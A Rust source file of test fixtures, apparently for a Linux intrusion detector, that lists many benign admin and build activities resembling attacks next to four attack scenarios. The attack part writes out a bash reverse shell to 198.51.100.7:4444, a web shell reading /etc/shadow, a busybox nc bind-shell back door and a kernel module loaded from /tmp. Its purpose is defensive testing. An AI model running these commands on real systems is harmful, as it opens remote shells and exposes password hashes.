//! Ordinary work that looks bad, one kind a paragraph: what it is called, then what it does, line by line.
//!
//! `service LABEL USER EXE ARGS`: below init, listens. `plain` listens not, `session LABEL USER` is a login over SSH.
//! `run LABEL PARENT EXE ARGS`: a program is executed. `suid`: with root's rights. `call`, `listen LABEL ADDRESS`;
//! `read LABEL PATH`; `write LABEL KIND PATH`; `trace LABEL OTHER`; `load LABEL MODULE`; `pause SECONDS`.

pub(crate) const KINDS: &str = r#"
# Panel under apache edits a user's crontab
service apache www-data /usr/sbin/apache2
run sh apache /bin/sh -c "crontab -u web f"
run crontab sh /usr/bin/crontab -u web f
write crontab cron /var/spool/cron/crontabs/web

# php-fpm panel adds a key by a shell
service fpm web /usr/sbin/php-fpm8.2
run sh fpm /bin/sh -c "cat key >> /home/web/.ssh/authorized_keys"
write sh keys /home/web/.ssh/authorized_keys

# php-fpm panel asks a shell and writes the key itself
service fpm web /usr/sbin/php-fpm8.2
run sh fpm /bin/sh -c "getent passwd web"
write fpm keys /home/web/.ssh/authorized_keys

# HestiaCP-like panel makes an account by sudo
service fpm admin /usr/sbin/php-fpm8.2
run sh fpm /bin/sh -c "sudo /usr/local/hestia/bin/v-add-user web"
suid sudo sh /usr/bin/sudo /usr/local/hestia/bin/v-add-user web
read sudo /etc/shadow
suid script sudo /bin/bash /usr/local/hestia/bin/v-add-user web
suid useradd script /usr/sbin/useradd web
read useradd /etc/shadow
write script cron /var/spool/cron/crontabs/web

# Webmin reads accounts and writes a cron job
service webmin root /usr/bin/perl /usr/share/webmin/miniserv.pl
run cgi webmin /usr/bin/perl /usr/share/webmin/useradmin/save_user.cgi
read cgi /etc/shadow
run sh cgi /bin/sh -c "crontab -l"
write cgi cron /etc/cron.d/webmin

# Self-extracting tool run from /tmp by php-fpm
service fpm web /usr/sbin/php-fpm8.2
run sh fpm /bin/sh -c "/tmp/makeself.sh --noexec"
run tool sh /tmp/selfgz1234/installer

# WordPress runs its cron and a converter
service fpm www-data /usr/sbin/php-fpm8.2
run cron fpm /bin/sh -c "php /var/www/wp-cron.php"
run php cron /usr/bin/php8.2 /var/www/wp-cron.php
run convert fpm /bin/sh -c "convert a.png b.jpg"

# PHP mail() by sendmail
service fpm www-data /usr/sbin/php-fpm8.2
run sh fpm /bin/sh -c "/usr/sbin/sendmail -t -i"
run sendmail sh /usr/sbin/sendmail -t -i

# ImageMagick delegate from php
service fpm www-data /usr/sbin/php-fpm8.2
run convert fpm /usr/bin/convert-im6.q16 a.eps b.png
run sh convert /bin/sh -c "gs -sDEVICE=png a.eps"

# wkhtmltopdf from php
service fpm www-data /usr/sbin/php-fpm8.2
run sh fpm /bin/sh -c "wkhtmltopdf https://example.org /tmp/a.pdf"
run wk sh /usr/bin/wkhtmltopdf https://example.org /tmp/a.pdf
call wk 198.51.100.20:443

# LibreOffice from php, unpacked below /tmp
service fpm www-data /usr/sbin/php-fpm8.2
run sh fpm /bin/sh -c "/tmp/.mount_libre/AppRun --convert-to pdf a.odt"
run office sh /tmp/.mount_libre/program/soffice.bin --convert-to pdf a.odt
listen office 127.0.0.1:2002

# CGI in Perl with a helper
service apache www-data /usr/sbin/apache2
run perl apache /usr/bin/perl /usr/lib/cgi-bin/form.pl
run sh perl /bin/sh -c "date +%s"

# Two CGI helpers below one fcgiwrap, one by sudo
service fcgi www-data /usr/sbin/fcgiwrap
run one fcgi /bin/sh /srv/cgi/status.sh
pause 80
run two fcgi /bin/sh /srv/cgi/restart.sh
suid sudo two /usr/bin/sudo -n systemctl reload nginx
read sudo /etc/shadow

# Mailman's CGI and its queue
service apache list /usr/sbin/apache2
run cgi apache /usr/bin/python3 /usr/lib/cgi-bin/mailman/admin
run sh cgi /bin/sh -c "/usr/lib/mailman/bin/newlist"

# Node application with a helper on sockets
service node app /usr/bin/node app.js
call node 10.0.0.5:5432
sockets sh node /bin/sh -c "convert a.png b.jpg"

# Nextcloud's background job
cron cron www-data
run sh cron /bin/sh -c "php -f /var/www/nextcloud/cron.php"
run php sh /usr/bin/php8.2 -f /var/www/nextcloud/cron.php

# CI runs `go test` from /tmp/go-build
service runner ci /usr/bin/gitea-runner daemon
run sh runner /bin/bash -e /tmp/job1/run.sh
run go sh /usr/bin/go test ./...
run test go /tmp/go-build4242/b001/x.test -test.timeout=10m
listen test 127.0.0.1:35467
run other go /tmp/go-build4242/b002/y.test -test.timeout=10m

# CI waits for a database in bash and runs its tests
service runner ci /usr/bin/gitlab-runner run
run sh runner /bin/bash -e /builds/job1/step_script
call sh 10.0.0.7:5432
run test sh /tmp/cargo-target/debug/deps/app-12ab

# Jenkins builds in /tmp
service jenkins jenkins /usr/bin/java -jar jenkins.war
run sh jenkins /bin/sh -xe /tmp/jenkins1234.sh
run make sh /usr/bin/make
run conf make /tmp/build/conftest

# Webhook builds in /tmp
service hook deploy /usr/bin/webhook -hooks hooks.json
run sh hook /bin/sh /srv/deploy.sh
run conf sh /tmp/build17/configure-test

# Deploy hook pulls and restarts
service hook deploy /usr/bin/webhook -hooks hooks.json
run sh hook /bin/sh -c "git pull && sudo systemctl restart app"
run git sh /usr/bin/git pull
suid sudo sh /usr/bin/sudo systemctl restart app
read sudo /etc/shadow

# Gitea runs a repository's hooks
service gitea git /usr/bin/gitea web
run git gitea /usr/bin/git receive-pack repo.git
run hook git /usr/bin/bash hooks/post-receive
run sh hook /bin/sh -c "curl -s http://10.0.0.8/build"

# gitolite over SSH
session login git
run sh login /bin/sh -c "gitolite-shell alice"
run perl sh /usr/bin/perl /usr/share/gitolite3/gitolite-shell alice
run git perl /usr/bin/git receive-pack repo.git
run hook git /bin/sh hooks/update

# nrpe check by bash towards the monitored host
service nrpe nagios /usr/sbin/nrpe -c /etc/nagios/nrpe.cfg
run sh nrpe /bin/sh -c "/usr/lib/nagios/plugins/check_port 198.51.100.20 443"
run bash sh /bin/bash /usr/lib/nagios/plugins/check_port 198.51.100.20 443
call bash 198.51.100.20:443

# Zabbix agent's user parameter by bash
service zabbix zabbix /usr/sbin/zabbix_agentd -f
run sh zabbix /bin/sh -c "exec bash -c '</dev/tcp/198.51.100.20/25'"
run bash sh /bin/bash -c "</dev/tcp/198.51.100.20/25"
call bash 198.51.100.20:25

# munin plugin in shell
service munin root /usr/bin/perl -wT /usr/sbin/munin-node
run sh munin /bin/sh /etc/munin/plugins/df
run bash munin /bin/bash /etc/munin/plugins/http
call bash 198.51.100.20:80

# Home Assistant's shell command by bash
service hass hass /usr/bin/python3 -m homeassistant
run sh hass /bin/sh -c "bash /config/wake.sh"
run bash sh /bin/bash /config/wake.sh
call bash 198.51.100.30:9

# monit runs a check
service monit root /usr/bin/monit -c /etc/monit/monitrc
run sh monit /bin/sh -c "/etc/monit/check_raid.sh"

# icinga check that reads what only root may
service icinga root /usr/lib/icinga2/sbin/icinga2 daemon
run sh icinga /bin/bash /usr/lib/nagios/plugins/check_shadow_age
run awk sh /usr/bin/mawk -F: x /etc/shadow
read awk /etc/shadow

# borg reads everything from cron
cron cron root
run sh cron /bin/sh -c "borg create ::now /etc"
run borg sh /usr/bin/python3 /usr/bin/borg create ::now /etc
read borg /etc/shadow

# restic by a timer
plain restic root /usr/bin/restic backup /etc
read restic /etc/shadow
call restic 198.51.100.40:443

# tar at night
cron cron root
run sh cron /bin/sh -c "tar czf /backup/etc.tgz /etc"
run tar sh /usr/bin/tar czf /backup/etc.tgz /etc
read tar /etc/shadow

# rsync daemon that serves a backup
service rsync root /usr/bin/rsync --daemon
run child rsync /usr/bin/rsync --daemon
read child /etc/shadow

# Bacula's client with a script before the job
service bacula root /usr/sbin/bacula-fd -f
run sh bacula /bin/sh -c "/etc/bacula/before.sh"
read bacula /etc/shadow

# MySQL backup script
cron cron root
run sh cron /bin/bash /usr/local/bin/mysql-backup
run dump sh /usr/bin/mariadb-dump --all-databases
call dump 127.0.0.1:3306

# PostgreSQL archive_command
service postgres postgres /usr/lib/postgresql/17/bin/postgres
run sh postgres /bin/sh -c "rsync pg_wal/1 backup@10.0.0.9:/wal/1"
run rsync sh /usr/bin/rsync pg_wal/1 backup@10.0.0.9:/wal/1

# PostgreSQL COPY TO PROGRAM
service postgres postgres /usr/lib/postgresql/17/bin/postgres
run sh postgres /bin/sh -c "gzip > /var/lib/postgresql/x.gz"
run gzip sh /usr/bin/gzip

# redis-cli from a cron job
cron cron root
run sh cron /bin/sh -c "redis-cli BGSAVE"
run cli sh /usr/bin/redis-cli BGSAVE
call cli 127.0.0.1:6379

# procmail
service postfix root /usr/lib/postfix/sbin/master -w
run local postfix /usr/lib/postfix/sbin/local -t unix
run procmail local /usr/bin/procmail
run sh procmail /bin/sh -c "formail -I x | sendmail me"

# Sieve pipe of dovecot
service dovecot vmail /usr/sbin/dovecot -F
run lda dovecot /usr/lib/dovecot/dovecot-lda
run sh lda /bin/sh /usr/lib/dovecot/sieve-pipe/learn-spam.sh

# Exim pipes to a list
service exim Debian-exim /usr/sbin/exim4 -bd
run sh exim /bin/sh -c "/usr/lib/mailman/mail/mailman post list"

# Mail filter unpacks in /tmp
service amavis amavis /usr/sbin/amavisd-new foreground
run sh amavis /bin/sh -c "/tmp/amavis/unrar x a.rar"
run unrar sh /tmp/amavis/unrar x a.rar

# Chat bot with shell commands
service bot bot /usr/bin/python3 bot.py
run sh bot /bin/sh -c "uptime; df -h"

# Bot that reports by bash
plain bot bot /usr/bin/python3 bot.py
run bash bot /bin/bash -c "echo up > /dev/tcp/198.51.100.20/2003"
call bash 198.51.100.20:2003

# Cron job that sends a metric by bash
cron cron root
run bash cron /bin/bash /usr/local/bin/metric
call bash 198.51.100.20:2003

# Timer that backs up and tells a monitor by bash
plain bash root /bin/bash /usr/local/bin/nightly
run restic bash /usr/bin/restic backup /etc
read restic /etc/shadow
call bash 198.51.100.20:80

# at job
plain atd root /usr/sbin/atd -f
run sh atd /bin/sh
run make sh /usr/bin/make all

# Container's health check
container shim root
run sh shim /bin/sh -c "curl -f http://localhost/"
run curl sh /usr/bin/curl -f http://localhost/

# Container that waits for its database
container shim root
run sh shim /bin/bash /wait-for-it.sh db:5432
call sh 172.18.0.3:5432

# docker build runs a step from /tmp
container shim root
run sh shim /bin/sh -c "/tmp/install.sh"
run tool sh /tmp/install.sh

# Editor runs a formatter
session login anna
run vim login /usr/bin/vim x.rs
run sh vim /bin/sh -c "rustfmt x.rs"

# VS Code's server with a terminal
session login anna
run node login /home/anna/.vscode-server/node server-main.js
listen node 127.0.0.1:40001
run bash node /usr/bin/bash
run test bash /tmp/cargo-x/debug/app

# Language server
session login anna
run node login /usr/bin/node typescript-language-server
listen node 127.0.0.1:40002

# git hooks of a person
session login anna
run git login /usr/bin/git commit
run hook git /bin/sh .git/hooks/pre-commit

# pip builds in /tmp
session login anna
run pip login /usr/bin/python3 -m pip install x
run setup pip /usr/bin/python3 /tmp/pip-build-1/setup.py build
run conf setup /tmp/pip-build-1/conftest

# npm builds a module
session login anna
run npm login /usr/bin/node npm install
run sh npm /bin/sh -c "node-gyp rebuild"
run conf sh /tmp/node-gyp/conftest

# gdb on one's own program
session login anna
run app login /home/anna/app
run gdb login /usr/bin/gdb -p 1
trace gdb app

# VPN server loads its driver
service vpn root /usr/sbin/openvpn --config server.conf
run mod vpn /usr/bin/kmod tun
load mod tun

# kubelet loads what containers need
service kubelet root /usr/bin/kubelet
run mod kubelet /usr/bin/kmod br_netfilter
load mod br_netfilter

# A person tries a driver built at home
session login root
run mod login /usr/bin/kmod /home/anna/driver/driver.ko
load mod driver

# udev loads a driver
plain udevd root /usr/lib/systemd/systemd-udevd
load udevd dummy

# strace by root on a service
session login root
service nginx www-data /usr/sbin/nginx
run strace login /usr/bin/strace -p 1
trace strace nginx

# Browser's sandbox
session login anna
run chrome login /opt/google/chrome/chrome
run zygote chrome /opt/google/chrome/chrome --type=zygote

# AppImage of a person below /tmp
session login anna
run app login /tmp/.mount_app123/AppRun
call app 198.51.100.40:443

# bpftrace
session login root
run bpftrace login /usr/bin/bpftrace -e x

# tcpdump
session login root
run tcpdump login /usr/bin/tcpdump -i any

# ssh with a control master
session login anna
run ssh login /usr/bin/ssh -M host
call ssh 198.51.100.60:22

# sshfs
session login anna
run sshfs login /usr/bin/sshfs host: mnt
run ssh sshfs /usr/bin/ssh host sftp
call ssh 198.51.100.60:22

# tmux left running
session login anna
run tmux login /usr/bin/tmux
run bash tmux /bin/bash
run curl bash /usr/bin/curl https://example.org
call curl 198.51.100.60:443

# ansible over SSH
session login root
run sh login /bin/sh -c "python3 /root/.ansible/tmp/ansible-1/AnsiballZ_user.py"
run python sh /usr/bin/python3 /root/.ansible/tmp/ansible-1/AnsiballZ_user.py
read python /etc/shadow
write python cron /etc/cron.d/site

# ansible below a web interface
service semaphore root /usr/bin/semaphore server
run play semaphore /usr/bin/python3 /usr/bin/ansible-playbook site.yml
run sh play /bin/sh -c "python3 /root/.ansible/tmp/ansible-2/AnsiballZ_user.py"
run python sh /usr/bin/python3 /root/.ansible/tmp/ansible-2/AnsiballZ_user.py
read python /etc/shadow
write python unit /etc/systemd/system/site.service

# logrotate
cron cron root
run rotate cron /usr/sbin/logrotate /etc/logrotate.conf
run sh rotate /bin/sh -c "invoke-rc.d nginx rotate"

# certbot renews with hooks
plain certbot root /usr/bin/python3 /usr/bin/certbot renew
listen certbot 0.0.0.0:80
run sh certbot /bin/sh -c "systemctl reload nginx"
write sh unit /etc/systemd/system/nginx.service.d/tls.conf

# dkms during an upgrade
plain apt root /usr/bin/apt-get upgrade
run dpkg apt /usr/bin/dpkg --configure -a
run sh dpkg /bin/sh /var/lib/dpkg/info/zfs-dkms.postinst configure
run conf sh /tmp/dkms.x/conftest

# unattended-upgrades installs a service
plain unattended root /usr/bin/unattended-upgrade
run dpkg unattended /usr/bin/dpkg --unpack x.deb
write dpkg unit /lib/systemd/system/x.service
run sh dpkg /bin/sh /var/lib/dpkg/info/x.postinst configure

# needrestart after apt
session login root
run apt login /usr/bin/apt-get install x
run perl apt /usr/bin/perl /usr/sbin/needrestart
run sh perl /bin/sh -c "systemctl restart x"

# snap
plain snapd root /usr/lib/snapd/snapd
run confine snapd /usr/lib/snapd/snap-confine x
run sh confine /bin/sh /snap/x/1/command.sh

# flatpak
session login anna
run flatpak login /usr/bin/flatpak run x
run bwrap flatpak /usr/bin/bwrap --args 40 x

# systemd timer in shell
plain sh root /bin/sh /usr/local/bin/cleanup
run find sh /usr/bin/find /tmp -mtime +7

# Cockpit's terminal
service cockpit cockpit-ws /usr/lib/cockpit/cockpit-ws
run session cockpit /usr/lib/cockpit/cockpit-session localhost
read session /etc/shadow
run bridge session /usr/bin/python3 /usr/bin/cockpit-bridge
run bash bridge /bin/bash

# x11vnc runs a command
service vnc anna /usr/bin/x11vnc -shared
run sh vnc /bin/sh -c "xset dpms force on"

# OpenVPN's up script
plain vpn root /usr/sbin/openvpn --config client.conf
run sh vpn /bin/sh /etc/openvpn/update-resolv-conf
call vpn 198.51.100.70:1194

# dhclient hooks
plain dhclient root /usr/sbin/dhclient -4 eth0
run sh dhclient /bin/sh /sbin/dhclient-script

# NetworkManager's dispatcher
plain nm root /usr/lib/NetworkManager/nm-dispatcher
run sh nm /bin/sh /etc/NetworkManager/dispatcher.d/10-x

# CUPS filter
service cups root /usr/sbin/cupsd -f
run rip cups /usr/bin/perl /usr/lib/cups/filter/foomatic-rip
run sh rip /bin/sh -c "gs -q x"

# Samba adds a machine
service smbd root /usr/sbin/smbd
run sh smbd /bin/sh -c "useradd -M pc1$"
suid useradd sh /usr/sbin/useradd -M pc1$
read useradd /etc/shadow

# proftpd runs a command after an upload
service ftp ftp /usr/sbin/proftpd
run sh ftp /bin/sh -c "/usr/local/bin/uploaded x"

# icecast announces a stream
service icecast icecast /usr/bin/icecast2 -c icecast.xml
run sh icecast /bin/sh -c "curl -s https://example.org/np"
run curl sh /usr/bin/curl -s https://example.org/np
call curl 198.51.100.60:443

# logstash runs a command for an event
service logstash logstash /usr/bin/java org.logstash.Logstash
run sh logstash /bin/sh -c "notify x"

# fail2ban bans
plain f2b root /usr/bin/python3 /usr/bin/fail2ban-server -xf start
run sh f2b /bin/sh -c "nft add element x"
"#;

/// Attacks: what is done about them must not be lost over the above.
pub(crate) const ATTACKS: &str = r#"
# A stolen shell, and one thing typed into it
service nginx www-data /usr/sbin/nginx
run sh nginx /bin/bash -c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
call sh 198.51.100.7:4444
sockets inner sh /bin/bash -i
run tool inner /tmp/x

# A stolen shell that reads the password file
service fpm www-data /usr/sbin/php-fpm8.2
run python fpm /usr/bin/python3 /var/www/up/x.py
call python 198.51.100.7:443
sockets inner python /bin/sh -i
run cat inner /usr/bin/cat /etc/shadow
read cat /etc/shadow

# A web shell used for one thing after another, up to a back door
service apache www-data /usr/sbin/apache2
run one apache /bin/sh -c "id"
run two apache /bin/sh -c "/tmp/.x"
run tool two /tmp/.x
run three apache /bin/sh -c "cat /etc/shadow"
run cat three /usr/bin/cat /etc/shadow
read cat /etc/shadow
run four apache /bin/sh -c "busybox nc -lk -p 4444 -e sh"
run door four /usr/bin/busybox nc -lk -p 4444 -e sh
listen door 0.0.0.0:4444

# A stolen root shell that loads a module
service nginx root /usr/sbin/nginx
run sh nginx /bin/bash -c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
call sh 198.51.100.7:4444
sockets inner sh /bin/bash -i
run mod inner /usr/bin/kmod /tmp/x.ko
load mod x
"#;
